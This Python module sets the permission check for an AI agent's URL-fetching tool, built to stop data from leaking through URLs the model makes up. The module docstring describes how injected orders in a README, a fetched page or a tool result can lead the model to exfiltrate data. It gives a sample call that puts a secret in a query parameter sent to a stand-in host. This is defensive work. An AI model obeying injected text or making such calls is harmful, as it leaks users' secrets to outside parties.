"""Which URLs ``fetch_url`` may fetch without asking: provenance, rules, and what the question shows.

Reading workspace files runs unasked, and text the model reads (a README, a fetched page, an MCP result)
can carry orders. An unasked way out would complete the theft: ``fetch_url("https://x/c?d=<secret>")``.
So a fetch runs unasked only when the model did not make the URL up:

* **Provenance** (:class:`Provenance`, one per session, on the tool context): URLs that appeared verbatim in
  the user's own messages, in this session's web_search results, or as links on pages fetched by provenance
  or with approval. A URL is covered when it names the same host, port and path as a known one, and its
  query parameters are among the known one's (dropping parameters is fine; adding any is not: that is
  where data would go). The fragment is never sent, so it never matters.
* **Rules** (``[[rules]]`` with ``tool = "fetch_url"``, see :mod:`swebash_ai.config.rules`) allow, ask or
  deny by host. They come after the tool's floor (schemes, private addresses), which they cannot lift.

Anything else asks, and the question shows the URL, its host and the parts of it that look like data, with
control characters escaped. "Allow for this session" remembers the host only (:func:`session_key`).
"""

from __future__ import annotations

import re
from collections import Counter
from urllib.parse import parse_qsl, unquote

from swebash_ai.config.rules import ToolRules
from swebash_ai.safety.verdict import Verdict

MAX_KNOWN_URLS = 20_000
"""URLs one session remembers; beyond it nothing is added (more questions, never fewer)."""

_URL = re.compile(r"https?://[^\s<>\"'`\\^{}|]+", re.IGNORECASE)
_TRAILING = ".,;:!?'\"*_~"
_CLOSERS = {")": "(", "]": "["}
_DATA_SEGMENT = re.compile(r"[A-Za-z0-9+/_=-]{16,}")
_SHOWN_CHARS = 300

_Key = tuple[str, str, int | None, str]


def extract_urls(text: str) -> list[str]:
    """The http(s) URLs in ``text``, without the punctuation that ends a sentence or a Markdown link."""
    found = []
    for match in _URL.finditer(text):
        url = match.group(0)
        while url:
            last = url[-1]
            if last in _TRAILING or (last in _CLOSERS and url.count(last) > url.count(_CLOSERS[last])):
                url = url[:-1]
                continue
            break
        if len(url) > len("https://"):
            found.append(url)
    return found


def _split(url: str) -> tuple[_Key, list[tuple[str, str]]] | None:
    """(userinfo, host, explicit port, path) and the query pairs; ``None`` for what is not an http(s) URL.

    Parsed by httpx, the parser that makes the request: a second parser could read another host out of
    the same text (``https://a\\@b/``), and the check would then be about a host that is never contacted.
    """
    import httpx

    try:
        parsed = httpx.URL(url.strip())
    except (httpx.InvalidURL, TypeError, ValueError):
        return None
    host = parsed.raw_host.decode("ascii", "replace").lower().rstrip(".")
    if parsed.scheme not in ("http", "https") or not host:
        return None
    path = parsed.path.rstrip("/") or "/"  # httpx has decoded it once; twice would equate other paths
    query = parse_qsl(parsed.query.decode("ascii", "replace"), keep_blank_values=True)
    # The scheme is left out: moving from http to https carries no data.
    return (unquote(parsed.userinfo.decode("ascii", "replace")), host, parsed.port, path), query


def host_of(url: str) -> str:
    """The host the request goes to, lower case, as httpx reads it (``""`` when there is none)."""
    split = _split(url)
    return split[0][1] if split is not None else ""


def session_key(url: str) -> str | None:
    """What "allow for this session" remembers for a fetch: its host, so it covers that host and no other."""
    host = host_of(url)
    return f"host:{host}" if host else None


class Provenance:
    """The URLs of this session the model did not make up (see the module docstring). Session-scoped."""

    def __init__(self) -> None:
        self._known: dict[_Key, list[Counter[tuple[str, str]]]] = {}
        self._count = 0

    def add_url(self, url: str) -> None:
        split = _split(url)
        if split is None or self._count >= MAX_KNOWN_URLS:
            return
        key, query = split
        queries = self._known.setdefault(key, [])
        counted = Counter(query)
        if counted not in queries:
            queries.append(counted)
            self._count += 1

    def add_text(self, text: str) -> None:
        """Remember every URL written in ``text`` (a user's message, a page that may be followed)."""
        for url in extract_urls(text):
            self.add_url(url)

    def covers(self, url: str) -> bool:
        """``url`` was seen in this session, with no query parameter added."""
        split = _split(url)
        if split is None:
            return False
        key, query = split
        wanted = Counter(query)
        return any(wanted <= known for known in self._known.get(key, ()))

    def seen_path(self, url: str) -> bool:
        """A URL with this host and path was seen (so what differs is the query)."""
        split = _split(url)
        return split is not None and split[0] in self._known

    def clear(self) -> None:
        self._known.clear()
        self._count = 0

    def __len__(self) -> int:
        return self._count


def shown(text: str, limit: int = _SHOWN_CHARS) -> str:
    """Text for the question, plainly: control characters escaped (they could redraw the screen), cut."""
    out = "".join(ch if ch.isprintable() else ascii(ch)[1:-1] for ch in text)
    return out if len(out) <= limit else f"{out[:limit]}… ({len(out)} characters)"


def data_parts(url: str) -> list[str]:
    """The parts of ``url`` that can carry data, decoded: credentials, query parameters, data-like path parts."""
    split = _split(url)
    if split is None:
        return []
    (userinfo, _host, _port, path), query = split
    parts = [f"credentials: {shown(userinfo)}"] if userinfo else []
    parts += [f"{shown(name)}={shown(value)}" for name, value in query]
    for segment in path.split("/"):
        long_token = _DATA_SEGMENT.search(segment) is not None and any(c.isdigit() for c in segment)
        odd = any(not (c.isalnum() or c in "._-~") for c in segment)
        if len(segment) >= 40 or long_token or odd:
            parts.append(f"path: {shown(segment)}")
    return parts


def data_values(url: str) -> list[str]:
    """The values in ``url`` that could be data (query values, long or odd path parts), decoded; short ones
    (``en``, ``1``) are left out, they would match everywhere."""
    split = _split(url)
    if split is None:
        return []
    (userinfo, _host, _port, path), query = split
    values = [value for _name, value in query] + [userinfo] + path.split("/")
    return [v for v in values if len(v) >= 8]


def judge(url: str, provenance: Provenance, rules: ToolRules, redirect_from: str | None = None) -> Verdict:
    """Allow, ask or deny a fetch the floor (schemes, private addresses) already let through.

    ``redirect_from``: the URL whose server redirected here (the question then says so).
    """
    host = host_of(url)
    rule = rules.decide("fetch_url", host)
    if rule is not None and rule.decision == "deny":
        return Verdict.deny(f"{host} is denied by your {rule.describe()}", rule="rule.deny")
    if rule is not None and rule.decision == "allow":
        return Verdict.allow(f"{host} is allowed by your {rule.describe()}", rule="rule.allow")
    if rule is None and provenance.covers(url):
        return Verdict.allow("the URL came from you, a search result or a fetched page", rule="web.provenance")
    if rule is not None:
        why = f"your {rule.describe()} asks before every fetch from {host}"
    elif redirect_from is not None:
        why = f"{host_of(redirect_from)} redirects to another host, {host}, that this session has not seen"
    elif provenance.seen_path(url):
        why = "the model added to or changed the query of a URL of this session: that may carry data"
    else:
        why = "the model made up this URL: you did not write it, and no search result or fetched page links to it"
    data = data_parts(url)
    sent = f"sends this to {host}: " + ", ".join(data) if data else f"sends a request to {host} (no data in the URL)"
    return Verdict.ask(why, sent, f'"allow for this session" allows {host} only',
                       rule="rule.ask" if rule is not None else "web.unseen_url")


def preview(url: str) -> str:
    """The question's detail: the URL, its host and its data, plainly."""
    lines = [f"URL:  {shown(url, 2000)}", f"host: {host_of(url) or '(none)'}"]
    data = data_parts(url)
    lines += [f"data: {part}" for part in data] or ["data: none in the URL"]
    return "\n".join(lines)
